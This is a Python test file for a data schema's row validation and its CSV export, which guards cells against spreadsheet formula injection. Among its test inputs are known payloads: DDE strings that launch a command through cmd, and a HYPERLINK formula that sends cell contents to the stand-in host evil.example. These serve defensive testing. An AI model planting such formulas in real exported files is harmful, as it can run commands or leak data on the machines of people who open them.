"""The tidy schema: what a row may hold, what is wrong with one that is none, and texts that spreadsheets would run."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from slawatch.data import csvs, tidy
from slawatch.data.tidy import COLUMNS, Row

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=IMPORTXML(CONCAT(A1:A9))",
    "\uff1d1+1",
    "-- ",
)

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
GOOD = {"company": "acme", "channel": "email", "sent_at": "2026-11-01T09:00:00Z"}


def problems(**more: object) -> str:
    found = tidy.read({**GOOD, **more}, now=NOW)
    assert isinstance(found, list), "it is taken for a good row"
    return "; ".join(found)


def test_company_channel_and_sent_at_make_a_row() -> None:
    row = tidy.read(GOOD, now=NOW)

    assert row == Row(company="acme", channel="email", sent_at=datetime(2026, 11, 1, 9, tzinfo=UTC))


def test_times_of_any_offset_are_kept_in_utc() -> None:
    row = tidy.read({**GOOD, "sent_at": "2026-11-01T10:00:00+01:00"}, now=NOW)

    assert isinstance(row, Row)
    assert row.sent_at == datetime(2026, 11, 1, 9, tzinfo=UTC)
    assert row.sent_at.tzinfo is UTC


def test_a_time_without_zone_is_refused_with_its_cure() -> None:
    assert problems(sent_at="2026-11-01 09:00") == (
        'sent_at: "2026-11-01 09:00" has no time zone; write it with Z or +01:00, or say --timezone Europe/Berlin'
    )


def test_a_time_without_zone_is_taken_in_the_zone_that_was_said() -> None:
    row = tidy.read({**GOOD, "sent_at": "2026-07-01 09:00"}, now=NOW, zone=ZoneInfo("Europe/Berlin"))

    assert isinstance(row, Row)
    assert row.sent_at == datetime(2026, 7, 1, 7, tzinfo=UTC)


@pytest.mark.parametrize(
    ("more", "why"),
    [
        ({"company": " "}, "company: is empty"),
        ({"sent_at": "yesterday"}, 'sent_at: "yesterday" is not a time'),
        ({"sent_at": "0001-01-01T00:00:00+14:00"}, "is not a time"),
        ({"sent_at": "2026-11-30T09:00:00Z"}, 'sent_at: "2026-11-30T09:00:00Z" is in the future'),
        ({"target": "a\0b"}, 'target: "a\\x00b" holds control characters'),
        ({"target": "caf\udce9"}, 'target: "caf\\udce9" is not UTF-8'),
        ({"target": "x" * 10_000_000}, 'target: "xxxxxxxxxxxxxxxxxxxx…" is 10000000 characters long; at most 1000'),
        ({"channel": "x" * 50}, "is too long; at most 40 characters"),
        ({"verdict": "great"}, 'verdict: "great" is unknown; write one of answered, missed, pending, void, or nothing'),
        ({"verdict": "void"}, "void_reason: is empty; a void request needs one of refused, bounced,"),
        ({"verdict": "missed", "void_reason": "bounced"}, 'verdict: "missed" stands beside a void_reason'),
        ({"origin": "dreamt"}, 'origin: "dreamt" is unknown'),
        ({"first_response_at": "2026-11-01T08:00:00Z"}, 'is before sent_at "2026-11-01T09:00:00Z"'),
        (
            {"first_response_at": "2026-11-01T12:00:00Z", "answered_at": "2026-11-01T11:00:00Z"},
            'answered_at: "2026-11-01T11:00:00Z" is before first_response_at',
        ),
        ({"promised_at": "2026-11-02T12:00:00Z"}, "promised_at: nothing came that could have promised it"),
    ],
)
def test_what_is_wrong_is_said(more: dict[str, object], why: str) -> None:
    assert why in problems(**more)


def test_two_clocks_may_differ_by_a_little() -> None:
    row = tidy.read({**GOOD, "first_response_at": "2026-11-01T08:59:00Z"}, now=NOW)

    assert isinstance(row, Row)


def test_all_that_is_wrong_with_a_row_is_said_at_once() -> None:
    found = problems(company="", sent_at="soon", verdict="great")

    assert all(name in found for name in ("company: is empty", 'sent_at: "soon"', 'verdict: "great"'))


# --- texts that a spreadsheet would run ---


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", '"=1', " =1", "\uff1d1", "a;=1", 'a;"=1']
)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    guarded = csvs.guard(text)

    assert all(cell.strip(' "')[0] not in "=+-@\uff1d\t\r" for cell in guarded.split(";"))


@pytest.mark.parametrize("text", FORMULAS)
def test_known_payloads_of_formula_injection_are_guarded(text: str) -> None:
    file = io.StringIO()
    csvs.write([Row(company=text, channel="email", sent_at=NOW)], file)

    (cells,) = list(csv.DictReader(io.StringIO(file.getvalue())))
    assert cells["company"][0] == "'"
    assert csvs.unguard(cells["company"]) == text


@given(st.text(alphabet="=+-@'\";\t\r\n ,ab\uff1d", max_size=12))
def test_a_guarded_text_comes_back_as_it_was(text: str) -> None:
    assert csvs.unguard(csvs.guard(text)) == text


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("Müller & Söhne", "a-b", "1=1", "'tis", "help@example.org", ""):
        assert csvs.guard(text) == text


WORDS = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zs"]), min_size=1, max_size=8)
INSTANTS = st.datetimes(datetime(2020, 1, 1), datetime(2026, 11, 1), timezones=st.just(UTC))  # noqa: DTZ001


@given(company=WORDS, target=WORDS, sent_at=INSTANTS, after=st.timedeltas(timedelta(0), timedelta(days=9)))
def test_a_row_survives_csv(company: str, target: str, sent_at: datetime, after: timedelta) -> None:
    row = Row(company=company, channel="email", target=target, sent_at=sent_at, answered_at=sent_at + after)
    file = io.StringIO(newline="")
    csvs.write([row], file)

    (cells,) = csv.DictReader(io.StringIO(file.getvalue(), newline=""))
    back = tidy.read({name: csvs.unguard(cell) for name, cell in cells.items()}, now=NOW)
    assert back == replace(row, company=company.strip(), target=target.strip())


def test_instants_are_written_in_utc() -> None:
    moment = datetime(2026, 11, 1, 10, tzinfo=timezone(timedelta(hours=1)))

    assert tidy.shown(moment) == "2026-11-01T09:00:00Z"
    assert tidy.shown(None) == ""


def test_the_columns_are_those_of_the_schema() -> None:
    expected = (
        *("request", "company", "channel", "target", "probe", "lang", "origin", "sent_at", "accepted_at"),
        *("acknowledged_at", "first_response_at", "answered_at", "promised_at", "observed_until", "verdict"),
        "void_reason",
    )
    assert expected == COLUMNS
